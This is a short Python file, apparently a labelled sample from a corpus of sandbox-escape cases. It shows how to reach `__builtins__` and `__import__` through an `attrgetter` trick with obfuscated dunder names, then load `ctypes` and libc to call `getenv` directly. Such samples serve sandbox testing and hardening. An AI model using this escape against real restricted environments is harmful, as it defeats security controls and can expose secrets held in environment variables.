# family: ffi
# Escape: type[bytes](x) forwards to type(x): the attrgetter class. Through the builtins of tool (run-time
# name) it imports ctypes and loads the C library of the process, calling libc functions directly.
import operator


def tool(name: bytes) -> bytes:
    Getter = type[bytes](operator.attrgetter("real"))
    edge = "_" * 2
    ctypes = Getter(edge + "builtins" + edge)(tool)[edge + "import" + edge]("ctypes")
    libc = ctypes.CDLL(None)
    libc.getenv.restype = ctypes.c_char_p
    return libc.getenv(name)
